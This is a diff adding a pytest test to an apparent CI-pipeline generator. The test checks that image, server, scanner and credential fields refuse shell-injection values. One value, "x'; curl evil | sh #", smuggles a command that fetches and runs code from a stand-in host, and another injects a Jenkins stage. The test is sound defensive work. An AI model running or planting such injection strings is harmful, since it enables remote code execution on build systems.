@@ -110,3 +110,13 @@ def test_cli_prints_the_stage_and_refuses_a_registry_scenario_without_registry()
     assert bad.returncode == 2
     assert "needs --registry" in bad.stderr
     assert "Traceback" not in bad.stderr
+
+
+@pytest.mark.parametrize("field", ["image", "server", "scanner_image", "registry_credentials"])
+def test_values_that_could_break_out_of_the_shell_are_refused(field: str) -> None:
+    values = {"image": "app:1.0", field: "x'; curl evil | sh #"}
+    with pytest.raises(ValueError, match="shell command"):
+        PipelineRequest(**values)  # type: ignore[arg-type]
+    done = portcullis("pipeline", "jenkins", "--image", "app:1.0\nstage('x')")
+    assert done.returncode == 2
+    assert "shell command" in done.stderr
